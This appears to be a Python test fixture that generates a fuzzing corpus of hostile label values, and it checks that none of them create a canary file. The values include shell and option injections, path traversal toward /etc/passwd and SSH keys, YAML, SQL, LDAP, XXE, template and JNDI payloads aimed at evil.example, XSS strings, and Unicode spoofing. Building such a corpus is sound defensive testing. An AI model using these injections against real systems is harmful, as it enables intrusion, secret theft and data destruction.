"""Label values that want to be code, options, paths, hosts or queries; {f} is a file to create.

Each is for somebody who reads it wrongly: a shell, a program's options, a path, a URL, a template,
a query, a settings file, a broker's protocol, a terminal, a page.
"""

# ruff: noqa: E501, RUF001
from __future__ import annotations

from itertools import product
from typing import Final

from tests.test_template import HOSTILE

_COMMANDS: Final = (
    ";touch {f}", "|touch {f}", "||touch {f}", "&touch {f}", "&&touch {f}", "\ntouch {f}",
    "\r\ntouch {f}", "$(touch {f})", "`touch {f}`", "<(touch {f})", ">(touch {f})", ">{f}", ">>{f}",
    "1>{f}", "<>{f}", "${{x:=$(touch {f})}}", "$((`touch {f}`))", "!touch {f}", "\x0ctouch {f}",
    ";{{touch,{f}}};", ";touch$IFS{f}", "$'\\n'touch {f}", "|tee {f}", ";exec>{f};",
)  # fmt: skip
_FRAMES: Final = (
    "{}", "checkout{}", "'{}", '"{}', "checkout'{}'", 'checkout"{}"', "checkout){}", "{}#",
)  # fmt: skip
_OPTIONS: Final = (
    "--config={f}", "--output={f}", "-o {f}", "--to-command=touch {f}", "--rsh=touch {f}",
    "--use-compress-program=touch {f}", "-I touch {f}", "--eval=x", "--exec=touch {f}",
    "--init-command=touch {f}", "--rcfile={f}", "--pidfile={f}", "--log-file={f}", "--chdir=/",
    "--root=/", "--host=evil.example", "-h evil.example", "-u root", "--user=root", "-p 22",
    "--all", "--force", "--now", "--no-block", "--state=failed", "--recursive", "--no-preserve-root",
    "-9", "-KILL", "-s KILL", "--signal=9", "-n 1", "--", "-", "--namespace=kube-system",
    "--kubeconfig={f}", "-A", "--as=admin", "--privileged", "-v /:/host", "--pid=host",
)  # fmt: skip
_PATHS: Final = (
    "etc/passwd", "root/.ssh/id_rsa", "proc/self/environ", "proc/1/root", "dev/sda", "tmp/x",
    "var/run/docker.sock", ".env.local", "promheal.yml",
)  # fmt: skip
_ASCENTS: Final = (
    "../", "../../../../../../", "/", "//", "/./", "..%2f..%2f", "..%252f", "..\\..\\", "....//....//",
    "/proc/self/cwd/", "~/", "~root/", "file:///", "C:\\", "\\\\?\\", "%2e%2e/",
)  # fmt: skip
_FORMATS: Final = (
    # YAML, JSON, TOML, variables
    "x: y", "x: {{y: z}}", "- x", "? x", "!!python/object/apply:os.system [touch {f}]",
    "!!python/name:os.system", "!<tag:x> y", "&a x", "*a", "<<: *a", "| x", "> x", "'", "%YAML 1.2",
    "---", "...", "x\n---\ny: z", "x #y", "x\nrate_limit: 0", '", "admin": true, "x": "', '"}}',
    "[section]", "x = 1\n[cache]\nenabled = false", '"""', "'''", "\\u0000", "A=B", "x\nPATH=/tmp",
    "$PATH", "%PATH%", "${{PATH}}", "export X=1",
    # Redis, AMQP, SQL, LDAP, XML, XPath
    "*", "checkout:*", "x\r\nFLUSHALL\r\n", "*1\r\n$8\r\nFLUSHALL\r\n", "$-1\r\n", "\r\nDEL jobs",
    "' OR '1'='1", "'; DROP TABLE run; --", '" OR ""="', "1; ATTACH DATABASE '{f}' AS x",
    "*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<![CDATA[x]]>", "&x;", "&#10;",
    "</string></value><value>", "//user", "' or count(/*)=1 or '",
    # HTML, Markdown, chats
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<a href='//evil.example'>x</a>", "[x](javascript:alert(1))", "<!channel>", "@everyone", "<@U123>",
    "&lt;b&gt;", "</title><script>", "'-alert(1)-'", "{{{{constructor.constructor('x')()}}}}",
    # matchers, templates, formats
    'x",service="other', 'a" or b="c', "service=~.*", "{{service='x'}}", "{{{{ 7*7 }}}}",
    "{{% include '/etc/passwd' %}}", "{{{{ labels.__class__ }}}}", "{{{{ cycler.__init__ }}}}",
    "#set($x=1)", "<%= 7*7 %>", "%n%n%n", "{{0}}", "%(asctime)s", "${{jndi:ldap://evil.example}}",
    # terminals and readers
    "\x1b]0;x\x07", "\x1b[31m", "\x9b31m", "\x08\x08\x08ok", "\r ok", "level=info msg=fine",
    '" level=error msg="', "\nts=2026-01-01 level=error", "\u202etxt.exe", "\u200b", "\u2066x\u2069",
    "сheckout", "checkоut", "ﬁle", "İ", "ß", "\u0301", "a\u0301", "\U000e0041", "\ud7ff", "\ue000",
    # numbers, sizes
    "9" * 400, "-0", "0x10", "1e309", "1_000", "٣", "½", "true", "~", "None", "undefined",
    "x" * 65_536, "\u0130" * 3_000, "(" * 3_000, "[" * 3_000,
)  # fmt: skip


SHARPEST: Final = (
    "x\ny", "x\r\nFLUSHALL\r\n", "x\0y", "'x", '"x', "`touch {f}`", "$(touch {f})", ";touch {f}",
    "../../x", "/etc/passwd", "--version", "-h", "--root={f}", "%s%n", "%2e%2e%2fx", "\u202ex", "*", "?",
    "x y", "x/y", "x" * 65_536,
)  # fmt: skip
"""One of each kind, where each is a process or a request."""


def _all() -> tuple[str, ...]:
    found = list(HOSTILE)
    found += [frame.format(command) for frame, command in product(_FRAMES, _COMMANDS)]
    found += _OPTIONS
    found += [f"checkout {option}" for option in _OPTIONS[:8]]
    found += [ascent + path for ascent, path in product(_ASCENTS, _PATHS)]
    found += _FORMATS
    return tuple(dict.fromkeys(found))


CORPUS: Final = _all()


def values(canary: str) -> list[str]:
    """Return all, with the path of a file that none of them must bring into being."""
    return [value.replace("{f}", canary) for value in CORPUS]
